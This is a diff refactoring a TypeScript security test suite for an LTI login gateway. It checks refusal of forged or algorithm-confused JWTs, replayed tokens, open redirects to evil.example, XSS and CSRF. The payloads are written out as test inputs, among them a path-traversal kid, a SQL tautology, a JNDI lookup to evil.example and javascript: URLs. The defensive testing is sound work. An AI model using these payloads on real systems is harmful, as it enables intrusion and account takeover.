@@ -17,7 +17,7 @@ import { DIALECTS, dropDatabase, freshDatabaseUrl, tempDir } from '../support/db
 import { basicAuth, startRole, type RunningRole } from '../support/servers.ts';
 import { Browser, readForm } from '../tool/support/browser.ts';
 import { FakeLms, type TokenTweaks } from '../tool/support/fakeLms.ts';
-import { createApp, launch, registerLms, startGateway, type TestGateway } from '../tool/support/gatewaySetup.ts';
+import { createApp, launch, registerLms, useGateway } from '../tool/support/gatewaySetup.ts';
 
 const now = () => Math.floor(Date.now() / 1000);
 const codeOf = (response: Response) => new URL(response.headers.get('location')!).searchParams.get('launch_code')!;
@@ -44,39 +44,34 @@ async function adminOf(url: string, method: string, path: string, body?: unknown
 }
 
 describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
-  let lms: FakeLms;
+  const world = useGateway({
+    dialect,
+    apps: {
+      chatbot: { slug: 'chatbot', app_url: 'http://127.0.0.1:9/app' },
+      other: { name: 'Other', slug: 'other', app_url: 'http://127.0.0.1:9/other' },
+    },
+  });
   let attacker: FakeLms;
-  let gateway: TestGateway;
-  let app: { id: string; api_key: string; launch_url: string };
-  let other: { id: string; api_key: string; launch_url: string };
-  let registrationId: string;
 
   beforeAll(async () => {
-    lms = await FakeLms.start();
     attacker = await FakeLms.start();
-    gateway = await startGateway(dialect);
-    registrationId = (await registerLms(gateway, lms)).id;
-    app = await createApp(gateway, { slug: 'chatbot', app_url: 'http://127.0.0.1:9/app' });
-    other = await createApp(gateway, { name: 'Other', slug: 'other', app_url: 'http://127.0.0.1:9/other' });
   });
   afterAll(async () => {
-    await gateway?.close();
-    await lms?.close();
     await attacker?.close();
   });
 
-  const launchWith = async (tweaks: TokenTweaks, targetLinkUri = app.launch_url) =>
-    (await launch(new Browser(), lms, gateway, { targetLinkUri, tweaks })).launch!;
-  const loginUrl = (params: Record<string, string>) => `${gateway.url}/lti/login?${new URLSearchParams({
-    iss: lms.issuer, login_hint: 'h', target_link_uri: app.launch_url, client_id: lms.clientId, ...params,
+  const launchWith = async (tweaks: TokenTweaks, targetLinkUri = world.apps.chatbot.launch_url) =>
+    (await launch(new Browser(), world.lms, world.gateway, { targetLinkUri, tweaks })).launch!;
+  const loginUrl = (params: Record<string, string>) => `${world.gateway.url}/lti/login?${new URLSearchParams({
+    iss: world.lms.issuer, login_hint: 'h', target_link_uri: world.apps.chatbot.launch_url, client_id: world.lms.clientId, ...params,
   })}`;
   const redeem = (code: string, key: string | null, headers: Record<string, string> = {}) =>
-    fetch(`${gateway.url}/api/v1/launches/${code}`, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });
+    fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...headers } });
 
   describe('forged signatures and algorithm confusion', () => {
     it('refuses HS256 signed with the platform’s PUBLIC key as the HMAC secret (PEM and JWK forms) (401 alg_not_allowed)', async () => {
-      const pem = createPublicKey({ key: lms.publicJwk() as any, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string;
-      for (const secret of [pem, pem.trim(), JSON.stringify(lms.publicJwk())]) {
+      const pem = createPublicKey({ key: world.lms.publicJwk() as any, format: 'jwk' }).export({ type: 'spki', format: 'pem' }) as string;
+      for (const secret of [pem, pem.trim(), JSON.stringify(world.lms.publicJwk())]) {
         for (const alg of ['HS256', 'HS384', 'HS512']) {
           await expectRefused(await launchWith({
             sign: (p: JWTPayload) => new SignJWT(p).setProtectedHeader({ alg, kid: 'k1-RS256', typ: 'JWT' }).sign(new TextEncoder().encode(secret)),
@@ -117,10 +112,10 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     });
 
     it('refuses a stripped signature, a tampered payload and an unknown critical header (401 signature_invalid)', async () => {
-      await expectRefused(await launchWith({ sign: async (p) => (await lms.sign(p)).replace(/\.[^.]*$/, '.') }), 401, 'signature_invalid');
+      await expectRefused(await launchWith({ sign: async (p) => (await world.lms.sign(p)).replace(/\.[^.]*$/, '.') }), 401, 'signature_invalid');
       await expectRefused(await launchWith({
         sign: async (p) => {
-          const [h, , s] = (await lms.sign(p)).split('.');
+          const [h, , s] = (await world.lms.sign(p)).split('.');
           return `${h}.${b64url({ ...p, sub: 'someone-else', [CLAIM.roles]: ['Administrator'] })}.${s}`;
         },
       }), 401, 'signature_invalid');
@@ -128,21 +123,21 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       await expectRefused(await launchWith({
         sign: async (p) => {
           const input = `${b64url({ alg: 'RS256', kid: 'k1-RS256', crit: ['x-evil'], 'x-evil': true })}.${b64url(p)}`;
-          const signature = await crypto.subtle.sign('RSASSA-PKCS1-v1_5', (lms as any).keys[0].privateKey, new TextEncoder().encode(input));
+          const signature = await crypto.subtle.sign('RSASSA-PKCS1-v1_5', (world.lms as any).keys[0].privateKey, new TextEncoder().encode(input));
           return `${input}.${Buffer.from(signature).toString('base64url')}`;
         },
       }), 401, 'signature_invalid');
     });
 
     it('answers injection-shaped kids with key_unknown, and a flood of unknown kids refetches the JWKS at most once (cooldown)', async () => {
-      const before = lms.jwksRequests;
+      const before = world.lms.jwksRequests;
       // (A NUL byte in a kid is its own test below: it is a known bug on Postgres.)
       for (const kid of ['../../../../etc/passwd', "' OR '1'='1", '${jndi:ldap://evil.example/a}', 'x'.repeat(2000)]) {
         await expectRefused(await launchWith({
-          sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid }).sign((lms as any).keys[0].privateKey),
+          sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid }).sign((world.lms as any).keys[0].privateKey),
         }), 401, 'key_unknown');
       }
-      expect(lms.jwksRequests - before).toBeLessThanOrEqual(1);
+      expect(world.lms.jwksRequests - before).toBeLessThanOrEqual(1);
     });
   });
 
@@ -168,13 +163,13 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
 
   describe('issuer and audience edge cases', () => {
     it.each([
-      ['an issuer with a trailing slash', () => ({ iss: `${lms.issuer}/` }), 'iss_mismatch'],
-      ['an issuer in upper case', () => ({ iss: lms.issuer.toUpperCase() }), 'iss_mismatch'],
-      ['an issuer as an array', () => ({ iss: [lms.issuer] }), 'iss_mismatch'],
-      ['our client id as a prefix of aud', () => ({ aud: `${lms.clientId}x`, azp: undefined }), 'aud_mismatch'],
-      ['our client id in another case', () => ({ aud: lms.clientId.toUpperCase(), azp: undefined }), 'aud_mismatch'],
-      ['aud as an object', () => ({ aud: { 0: lms.clientId }, azp: undefined }), 'aud_mismatch'],
-      ['a single aud with a foreign azp', () => ({ aud: lms.clientId, azp: 'client-9' }), 'azp_mismatch'],
+      ['an issuer with a trailing slash', () => ({ iss: `${world.lms.issuer}/` }), 'iss_mismatch'],
+      ['an issuer in upper case', () => ({ iss: world.lms.issuer.toUpperCase() }), 'iss_mismatch'],
+      ['an issuer as an array', () => ({ iss: [world.lms.issuer] }), 'iss_mismatch'],
+      ['our client id as a prefix of aud', () => ({ aud: `${world.lms.clientId}x`, azp: undefined }), 'aud_mismatch'],
+      ['our client id in another case', () => ({ aud: world.lms.clientId.toUpperCase(), azp: undefined }), 'aud_mismatch'],
+      ['aud as an object', () => ({ aud: { 0: world.lms.clientId }, azp: undefined }), 'aud_mismatch'],
+      ['a single aud with a foreign azp', () => ({ aud: world.lms.clientId, azp: 'client-9' }), 'azp_mismatch'],
     ])('refuses %s (401)', async (_what, claims, code) => {
       await expectRefused(await launchWith({ claims: claims() as Record<string, unknown> }), 401, code);
     });
@@ -183,20 +178,20 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
   describe('replay and tampering of nonce and state', () => {
     it('refuses a captured id_token replayed into a new login (401 nonce_mismatch), and two logins’ tokens swapped', async () => {
       const browser = new Browser();
-      const first = await launch(browser, lms, gateway, { targetLinkUri: app.launch_url });
+      const first = await launch(browser, world.lms, world.gateway, { targetLinkUri: world.apps.chatbot.launch_url });
       expect(first.launch!.status).toBe(303);
       const captured = readForm(await (await browser.get(first.login.headers.get('location')!)).text());
       // The captured token (its state is used now) goes with a fresh login's state and cookie.
       const fresh = new Browser();
       const login = await fresh.get(loginUrl({ login_hint: 'replayer' }));
       const state = new URL(login.headers.get('location')!).searchParams.get('state')!;
-      await expectRefused(await fresh.post(app.launch_url, { id_token: captured.fields.id_token, state }), 401, 'nonce_mismatch');
+      await expectRefused(await fresh.post(world.apps.chatbot.launch_url, { id_token: captured.fields.id_token, state }), 401, 'nonce_mismatch');
 
       const a = new Browser();
       const b = new Browser();
       const formA = readForm(await (await a.get((await a.get(loginUrl({ login_hint: 'a' }))).headers.get('location')!)).text());
       const formB = readForm(await (await b.get((await b.get(loginUrl({ login_hint: 'b' }))).headers.get('location')!)).text());
-      await expectRefused(await a.post(app.launch_url, { id_token: formB.fields.id_token, state: formA.fields.state }), 401, 'nonce_mismatch');
+      await expectRefused(await a.post(world.apps.chatbot.launch_url, { id_token: formB.fields.id_token, state: formA.fields.state }), 401, 'nonce_mismatch');
     });
 
     it('refuses a tampered state: one character changed, truncated, padded or re-cased (401 state_unknown)', async () => {
@@ -205,10 +200,10 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       const s = form.fields.state;
       const flip = (c: string) => (c === 'A' ? 'B' : 'A');
       for (const state of [flip(s[0]) + s.slice(1), s.slice(0, -1), `${s}A`, `${s} `, s.toUpperCase(), `${s}%00`]) {
-        await expectRefused(await browser.post(app.launch_url, { id_token: form.fields.id_token, state }), 401, 'state_unknown');
+        await expectRefused(await browser.post(world.apps.chatbot.launch_url, { id_token: form.fields.id_token, state }), 401, 'state_unknown');
       }
       // The genuine state is still usable once by its own browser.
-      expect((await browser.post(app.launch_url, form.fields)).status).toBe(303);
+      expect((await browser.post(world.apps.chatbot.launch_url, form.fields)).status).toBe(303);
     });
 
     it('accepts a fresh state posted without any cookie from another browser, once, and records storage "none" (documented fallback)', async () => {
@@ -219,15 +214,15 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       const form = readForm(await (await owner.get((await owner.get(loginUrl({ login_hint: 'stranger' }))).headers.get('location')!)).text());
       const stranger = new Browser();
       stranger.cookiesEnabled = false;
-      const taken = await stranger.post(app.launch_url, form.fields);
+      const taken = await stranger.post(world.apps.chatbot.launch_url, form.fields);
       expect(taken.status).toBe(303);
-      await expectRefused(await owner.post(app.launch_url, form.fields), 401, 'state_used');
-      const entries = (await gateway.admin('GET', '/launches?outcome=success&limit=5')).body.launches as Array<{ storage: string }>;
+      await expectRefused(await owner.post(world.apps.chatbot.launch_url, form.fields), 401, 'state_used');
+      const entries = (await world.gateway.admin('GET', '/launches?outcome=success&limit=5')).body.launches as Array<{ storage: string }>;
       expect(entries[0].storage).toBe('none');
     });
 
     it('refuses a token from another registered LMS posted with this LMS’s state (401)', async () => {
-      await registerLms(gateway, attacker, { name: 'Second LMS' });
+      await registerLms(world.gateway, attacker, { name: 'Second LMS' });
       await expectRefused(await launchWith({ sign: (p) => attacker.sign({ ...p, iss: attacker.issuer }) }), 401, /signature_invalid|key_unknown|iss_mismatch/);
     });
   });
@@ -236,12 +231,12 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     it('never sends the browser anywhere but the registered LMS, with a redirect_uri it owns', async () => {
       const login = await new Browser().get(loginUrl({ login_hint: 'r' }));
       const location = new URL(login.headers.get('location')!);
-      expect(location.origin + location.pathname).toBe(lms.authorizationEndpoint);
-      expect(location.searchParams.get('redirect_uri')).toBe(app.launch_url);
+      expect(location.origin + location.pathname).toBe(world.lms.authorizationEndpoint);
+      expect(location.searchParams.get('redirect_uri')).toBe(world.apps.chatbot.launch_url);
     });
 
     it('refuses login targets that only look like its launch URLs (400 target_link_uri_invalid)', async () => {
-      const gw = gateway.url;
+      const gw = world.gateway.url;
       const host = new URL(gw).host;
       for (const target of [
         `//evil.example/lti/launch/chatbot`, `${gw}.evil.example/lti/launch/chatbot`, `http://${host}@evil.example/lti/launch/chatbot`,
@@ -256,8 +251,8 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     });
 
     it('refuses a launch on the routing URL whose target_link_uri claim points elsewhere, and only ever hands off to the app’s own URL', async () => {
-      for (const target of ['https://evil.example/lti/launch/chatbot', `${gateway.url}.evil.example/lti/launch/chatbot`]) {
-        await expectRefused(await launchWith({ claims: { [CLAIM.targetLinkUri]: target } }, `${gateway.url}/lti/launch`), 400, 'target_link_uri_invalid');
+      for (const target of ['https://evil.example/lti/launch/chatbot', `${world.gateway.url}.evil.example/lti/launch/chatbot`]) {
+        await expectRefused(await launchWith({ claims: { [CLAIM.targetLinkUri]: target } }, `${world.gateway.url}/lti/launch`), 400, 'target_link_uri_invalid');
       }
       const ok = await launchWith({ claims: { [CLAIM.launchPresentation]: { return_url: 'https://evil.example/', document_target: 'window' } } });
       expect(ok.status).toBe(303);
@@ -269,34 +264,34 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
   describe('missing, duplicated and malformed parameters', () => {
     it('refuses duplicated login parameters, by GET and by POST (400 login_param_invalid)', async () => {
       for (const name of ['iss', 'login_hint', 'target_link_uri', 'client_id', 'lti_deployment_id', 'lti_message_hint', 'lti_storage_target']) {
-        const q = new URLSearchParams({ iss: lms.issuer, login_hint: 'h', target_link_uri: app.launch_url, client_id: lms.clientId });
+        const q = new URLSearchParams({ iss: world.lms.issuer, login_hint: 'h', target_link_uri: world.apps.chatbot.launch_url, client_id: world.lms.clientId });
         q.append(name, 'second-value');
         if (!['iss', 'login_hint', 'target_link_uri', 'client_id'].includes(name)) q.append(name, 'third-value');
-        await expectRefused(await fetch(`${gateway.url}/lti/login?${q}`, { redirect: 'manual' }), 400, 'login_param_invalid');
-        await expectRefused(await fetch(`${gateway.url}/lti/login`, {
+        await expectRefused(await fetch(`${world.gateway.url}/lti/login?${q}`, { redirect: 'manual' }), 400, 'login_param_invalid');
+        await expectRefused(await fetch(`${world.gateway.url}/lti/login`, {
           method: 'POST', redirect: 'manual', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: q.toString(),
         }), 400, 'login_param_invalid');
       }
     });
 
     it('refuses a login with no parameters, and a parameter over 4 KiB (400)', async () => {
-      await expectRefused(await fetch(`${gateway.url}/lti/login`, { redirect: 'manual' }), 400, 'login_param_missing');
-      await expectRefused(await fetch(`${gateway.url}/lti/login`, { method: 'POST', redirect: 'manual' }), 400, 'login_param_missing');
+      await expectRefused(await fetch(`${world.gateway.url}/lti/login`, { redirect: 'manual' }), 400, 'login_param_missing');
+      await expectRefused(await fetch(`${world.gateway.url}/lti/login`, { method: 'POST', redirect: 'manual' }), 400, 'login_param_missing');
       await expectRefused(await fetch(loginUrl({ login_hint: 'x'.repeat(5000) }), { redirect: 'manual' }), 400, 'login_param_invalid');
     });
 
     it('refuses duplicated or non-text id_token/state and odd bodies (4xx with a code)', async () => {
       const post = (body: string, type = 'application/x-www-form-urlencoded') =>
-        fetch(app.launch_url, { method: 'POST', headers: { 'content-type': type }, body });
+        fetch(world.apps.chatbot.launch_url, { method: 'POST', headers: { 'content-type': type }, body });
       await expectRefused(await post('id_token=a&id_token=b&state=s'), 400, 'id_token_missing');
       await expectRefused(await post('id_token=a&state=s&state=t'), 400, 'state_missing');
       await expectRefused(await post('id_token[x]=a&state=s'), 400, /id_token_missing|state_unknown/);
       await expectRefused(await post(JSON.stringify({ id_token: { a: 1 }, state: ['s'] }), 'application/json'), 400, 'id_token_missing');
       await expectRefused(await post('', 'application/x-www-form-urlencoded'), 400, 'id_token_missing');
       await expectRefused(await post('<xml/>', 'text/xml'), 415, 'request_invalid');
-      await expectRefused(await fetch(app.launch_url, { method: 'POST' }), 400, 'id_token_missing');
-      await expectRefused(await fetch(`${gateway.url}/lti/launch/NOT_A_SLUG`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'id_token=a&state=b' }), 400, 'request_invalid');
-      await expectRefused(await fetch(app.launch_url), 404, 'not_found');
+      await expectRefused(await fetch(world.apps.chatbot.launch_url, { method: 'POST' }), 400, 'id_token_missing');
+      await expectRefused(await fetch(`${world.gateway.url}/lti/launch/NOT_A_SLUG`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'id_token=a&state=b' }), 400, 'request_invalid');
+      await expectRefused(await fetch(world.apps.chatbot.launch_url), 404, 'not_found');
     });
   });
 
@@ -305,39 +300,39 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
   // NUL in its parameters or form up front (400 request_invalid, src/http/server.ts), and the
   // launch log replaces NUL in the messages it stores (a kid is quoted in key_unknown).
   it('answers NUL bytes in parameters, state and kid with a 4xx, never 500', async () => {
-    await expectRefused(await fetch(loginUrl({ iss: `${lms.issuer}\u0000` }), { redirect: 'manual' }), 400, 'request_invalid');
+    await expectRefused(await fetch(loginUrl({ iss: `${world.lms.issuer}\u0000` }), { redirect: 'manual' }), 400, 'request_invalid');
     await expectRefused(await fetch(loginUrl({ client_id: 'a\u0000b' }), { redirect: 'manual' }), 400, 'request_invalid');
-    await expectRefused(await new Browser().post(app.launch_url, { id_token: 'a.b.c', state: 'x\u0000y' }), 400, 'request_invalid');
+    await expectRefused(await new Browser().post(world.apps.chatbot.launch_url, { id_token: 'a.b.c', state: 'x\u0000y' }), 400, 'request_invalid');
     await expectRefused(await launchWith({
-      sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid: 'k1\u0000' }).sign((lms as any).keys[0].privateKey),
+      sign: (p) => new SignJWT(p).setProtectedHeader({ alg: 'RS256', kid: 'k1\u0000' }).sign((world.lms as any).keys[0].privateKey),
     }), 401, 'key_unknown');
   });
 
   describe('oversized input', () => {
     it('refuses a 300 KiB launch body (413 request_too_large) and answers a 200 KiB garbage id_token with a code (400)', async () => {
-      await expectRefused(await fetch(app.launch_url, {
+      await expectRefused(await fetch(world.apps.chatbot.launch_url, {
         method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `id_token=${'a'.repeat(300 * 1024)}&state=s`,
       }), 413, 'request_too_large');
       const browser = new Browser();
       const form = readForm(await (await browser.get((await browser.get(loginUrl({ login_hint: 'big' }))).headers.get('location')!)).text());
-      await expectRefused(await browser.post(app.launch_url, { state: form.fields.state, id_token: `${'e'.repeat(100 * 1024)}.${'f'.repeat(100 * 1024)}.x` }), 400, 'id_token_malformed');
+      await expectRefused(await browser.post(world.apps.chatbot.launch_url, { state: form.fields.state, id_token: `${'e'.repeat(100 * 1024)}.${'f'.repeat(100 * 1024)}.x` }), 400, 'id_token_malformed');
     });
 
     it('refuses oversized headers and request lines with 431, and stays up', async () => {
-      const big = await fetch(`${gateway.url}/lti/login`, { headers: { cookie: `a=${'x'.repeat(20 * 1024)}` } });
+      const big = await fetch(`${world.gateway.url}/lti/login`, { headers: { cookie: `a=${'x'.repeat(20 * 1024)}` } });
       expect(big.status).toBe(431);
-      const longUrl = await fetch(`${gateway.url}/lti/login?iss=${'x'.repeat(20 * 1024)}`);
+      const longUrl = await fetch(`${world.gateway.url}/lti/login?iss=${'x'.repeat(20 * 1024)}`);
       expect(longUrl.status).toBe(431);
-      expect((await fetch(`${gateway.url}/healthz`)).status).toBe(200);
+      expect((await fetch(`${world.gateway.url}/healthz`)).status).toBe(200);
     });
 
     it('refuses an oversized admin API body (413) and a hand-off code over 128 characters (400 request_invalid)', async () => {
-      const response = await fetch(`${gateway.url}/admin/api/v1/apps`, {
+      const response = await fetch(`${world.gateway.url}/admin/api/v1/apps`, {
         method: 'POST', headers: { authorization: basicAuth(), 'content-type': 'application/json' },
         body: JSON.stringify({ name: 'x'.repeat(300 * 1024), slug: 'big', app_url: 'http://127.0.0.1:9/' }),
       });
       await expectRefused(response, 413, 'request_too_large');
-      await expectRefused(await redeem('c'.repeat(129), app.api_key), 400, 'request_invalid');
+      await expectRefused(await redeem('c'.repeat(129), world.apps.chatbot.api_key), 400, 'request_invalid');
     });
   });
 
@@ -346,37 +341,37 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       const real = codeOf(await launchWith({}));
       const guesses = Array.from({ length: 200 }, (_, i) =>
         i % 4 === 0 ? randomBytes(32).toString('base64url') : i % 4 === 1 ? real.slice(0, -1) + (real.endsWith('A') ? 'B' : 'A') : i % 4 === 2 ? real.slice(0, 20) : `${real}x`);
-      const answers = await Promise.all(guesses.map((g) => redeem(encodeURIComponent(g), app.api_key)));
+      const answers = await Promise.all(guesses.map((g) => redeem(encodeURIComponent(g), world.apps.chatbot.api_key)));
       for (const a of answers) await expectRefused(a, 404, 'handoff_unknown');
-      const body = await (await redeem(real, app.api_key)).json();
+      const body = await (await redeem(real, world.apps.chatbot.api_key)).json();
       expect(body.user.sub).toBe('user-42');
     });
 
     it('redeems a code exactly once under 10 concurrent redemptions (one 200, nine 410 handoff_used)', async () => {
       const code = codeOf(await launchWith({}));
-      const answers = await Promise.all(Array.from({ length: 10 }, () => redeem(code, app.api_key)));
+      const answers = await Promise.all(Array.from({ length: 10 }, () => redeem(code, world.apps.chatbot.api_key)));
       const statuses = answers.map((a) => a.status).sort();
       expect(statuses).toEqual([200, ...Array(9).fill(410)]);
     });
 
     it('refuses another app’s key without burning the code, admin credentials, and odd Authorization headers (401/404)', async () => {
       const code = codeOf(await launchWith({}));
-      await expectRefused(await redeem(code, other.api_key), 404, 'handoff_unknown');
-      await expectRefused(await fetch(`${gateway.url}/api/v1/launches/${code}`, { headers: { authorization: basicAuth() } }), 401, 'api_key_invalid');
-      for (const authorization of [`bearer${app.api_key}`, `Bearer ${app.api_key}x`, `Bearer ${app.api_key.slice(0, -1)}`, `Token ${app.api_key}`, 'Bearer ', `Bearer ${'k'.repeat(5000)}`]) {
-        await expectRefused(await fetch(`${gateway.url}/api/v1/launches/${code}`, { headers: { authorization } }), 401, 'api_key_invalid');
+      await expectRefused(await redeem(code, world.apps.other.api_key), 404, 'handoff_unknown');
+      await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { authorization: basicAuth() } }), 401, 'api_key_invalid');
+      for (const authorization of [`bearer${world.apps.chatbot.api_key}`, `Bearer ${world.apps.chatbot.api_key}x`, `Bearer ${world.apps.chatbot.api_key.slice(0, -1)}`, `Token ${world.apps.chatbot.api_key}`, 'Bearer ', `Bearer ${'k'.repeat(5000)}`]) {
+        await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}`, { headers: { authorization } }), 401, 'api_key_invalid');
       }
-      await expectRefused(await fetch(`${gateway.url}/api/v1/launches/${code}?api_key=${app.api_key}`), 401, 'api_key_invalid');
-      const ok = await redeem(code, app.api_key);
+      await expectRefused(await fetch(`${world.gateway.url}/api/v1/launches/${code}?api_key=${world.apps.chatbot.api_key}`), 401, 'api_key_invalid');
+      const ok = await redeem(code, world.apps.chatbot.api_key);
       expect(ok.status).toBe(200);
       expect(ok.headers.get('cache-control')).toBe('no-store');
       expect(ok.headers.get('content-type')).toMatch(/^application\/json/);
     });
 
     it('stops redeeming once the app is deleted (401 api_key_invalid)', async () => {
-      const doomed = await createApp(gateway, { name: 'Doomed', slug: 'doomed' });
+      const doomed = await createApp(world.gateway, { name: 'Doomed', slug: 'doomed' });
       const code = codeOf(await launchWith({}, doomed.launch_url));
-      expect((await gateway.admin('DELETE', `/apps/${doomed.id}`)).status).toBe(204);
+      expect((await world.gateway.admin('DELETE', `/apps/${doomed.id}`)).status).toBe(204);
       await expectRefused(await redeem(code, doomed.api_key), 401, 'api_key_invalid');
     });
   });
@@ -388,26 +383,26 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     it('escapes registration and app names on launch pages, error pages, the JWT hand-off page and the admin console', async () => {
       const evilLms = await FakeLms.start();
       try {
-        await registerLms(gateway, evilLms, { name: `LMS ${XSS}` });
-        const evilApp = await createApp(gateway, { name: `App ${XSS}`, slug: 'xss-app', app_url: 'http://127.0.0.1:9/xss', handoff: 'jwt' });
+        await registerLms(world.gateway, evilLms, { name: `LMS ${XSS}` });
+        const evilApp = await createApp(world.gateway, { name: `App ${XSS}`, slug: 'xss-app', app_url: 'http://127.0.0.1:9/xss', handoff: 'jwt' });
         const pages: Array<[string, Response]> = [];
         // An error page that names both (the deployment is refused after the app is known).
-        pages.push(['login error', await new Browser().get(`${gateway.url}/lti/login?${new URLSearchParams({
+        pages.push(['login error', await new Browser().get(`${world.gateway.url}/lti/login?${new URLSearchParams({
           iss: evilLms.issuer, login_hint: 'x', target_link_uri: evilApp.launch_url, client_id: evilLms.clientId, lti_deployment_id: 'nope',
         })}`)]);
         // A launch error page after the registration is known.
-        pages.push(['launch error', (await launch(new Browser(), evilLms, gateway, { targetLinkUri: evilApp.launch_url, tweaks: { claims: { iss: 'https://impostor.example' } } })).launch!]);
+        pages.push(['launch error', (await launch(new Browser(), evilLms, world.gateway, { targetLinkUri: evilApp.launch_url, tweaks: { claims: { iss: 'https://impostor.example' } } })).launch!]);
         // The signed-JWT hand-off page shows the app's name.
-        pages.push(['jwt hand-off', (await launch(new Browser(), evilLms, gateway, { targetLinkUri: evilApp.launch_url })).launch!]);
+        pages.push(['jwt hand-off', (await launch(new Browser(), evilLms, world.gateway, { targetLinkUri: evilApp.launch_url })).launch!]);
         // Attacker-controlled text that lands in the launch log: an issuer and an error description.
-        await new Browser().get(`${gateway.url}/lti/login?${new URLSearchParams({ iss: XSS, login_hint: XSS, target_link_uri: app.launch_url })}`);
-        pages.push(['platform error', await new Browser().post(app.launch_url, { error: XSS, error_description: XSS })]);
+        await new Browser().get(`${world.gateway.url}/lti/login?${new URLSearchParams({ iss: XSS, login_hint: XSS, target_link_uri: world.apps.chatbot.launch_url })}`);
+        pages.push(['platform error', await new Browser().post(world.apps.chatbot.launch_url, { error: XSS, error_description: XSS })]);
         for (const path of ['/admin', '/admin/registrations', '/admin/apps', '/admin/launches', `/admin/apps/${evilApp.id}`]) {
-          pages.push([path, await fetch(`${gateway.url}${path}`, { headers: { authorization: basicAuth() } })]);
+          pages.push([path, await fetch(`${world.gateway.url}${path}`, { headers: { authorization: basicAuth() } })]);
         }
-        const launches = (await gateway.admin('GET', '/launches?outcome=failure&limit=20')).body.launches as Array<{ id: string }>;
+        const launches = (await world.gateway.admin('GET', '/launches?outcome=failure&limit=20')).body.launches as Array<{ id: string }>;
         for (const l of launches.slice(0, 5)) {
-          pages.push([`launch ${l.id}`, await fetch(`${gateway.url}/admin/launches/${l.id}`, { headers: { authorization: basicAuth() } })]);
+          pages.push([`launch ${l.id}`, await fetch(`${world.gateway.url}/admin/launches/${l.id}`, { headers: { authorization: basicAuth() } })]);
         }
         let sawEscaped = 0;
         for (const [name, response] of pages) {
@@ -435,7 +430,7 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
 
     it('refuses script and data URLs as an app_url (422)', async () => {
       for (const appUrl of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd']) {
-        const created = await gateway.admin('POST', '/apps', { name: 'Bad', slug: 'bad-url', app_url: appUrl });
+        const created = await world.gateway.admin('POST', '/apps', { name: 'Bad', slug: 'bad-url', app_url: appUrl });
         expect(created.status, appUrl).toBe(422);
         expect(created.body.fields.app_url).toBeTruthy();
       }
@@ -445,7 +440,7 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
   describe('gateway admin API', () => {
     it('refuses a registration carrying a private key as its public_jwk (422)', async () => {
       const { privateKey } = await generateKeyPair('RS256', { extractable: true });
-      const created = await gateway.admin('POST', '/registrations', {
+      const created = await world.gateway.admin('POST', '/registrations', {
         name: 'Leaky', issuer: 'https://leaky.example', client_id: 'c', deployment_ids: [], authorization_endpoint: 'https://leaky.example/auth',
         public_jwk: await exportJWK(privateKey),
       });
@@ -459,16 +454,16 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
       const form = new URLSearchParams({ name: 'Rogue LMS', issuer: 'https://rogue.example', client_id: 'rogue', authorization_endpoint: 'https://rogue.example/auth', jwks_url: 'https://rogue.example/jwks' });
       form.append('deployment_ids', 'd1');
       form.append('deployment_ids', 'd2');
-      const response = await fetch(`${gateway.url}/admin/api/v1/registrations`, {
+      const response = await fetch(`${world.gateway.url}/admin/api/v1/registrations`, {
         method: 'POST',
         headers: { authorization: basicAuth(), 'content-type': 'application/x-www-form-urlencoded', origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
         body: form.toString(),
       });
-      const registrations = (await gateway.admin('GET', '/registrations')).body.registrations as Array<{ issuer: string }>;
+      const registrations = (await world.gateway.admin('GET', '/registrations')).body.registrations as Array<{ issuer: string }>;
       expect(registrations.some((r) => r.issuer === 'https://rogue.example')).toBe(false);
       await expectRefused(response, 403, 'csrf_cross_site');
       // A same-site-looking form post (no Origin / Sec-Fetch-Site) is still not JSON: 415, nothing created.
-      const plain = await fetch(`${gateway.url}/admin/api/v1/keys/rotate`, {
+      const plain = await fetch(`${world.gateway.url}/admin/api/v1/keys/rotate`, {
         method: 'POST', headers: { authorization: basicAuth(), 'content-type': 'text/plain' }, body: '{}',
       });
       await expectRefused(plain, 415, /request_not_json|request_invalid/);
@@ -484,7 +479,7 @@ describe.each(DIALECTS)('gateway attack suite (%s)', (dialect) => {
     beforeAll(async () => {
       canary = createServer((_req, res) => {
         canaryHits += 1;
-        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [lms.publicJwk()] }));
+        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ keys: [world.lms.publicJwk()] }));
       });
       await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
       canaryPort = (canary.address() as { port: number }).port;
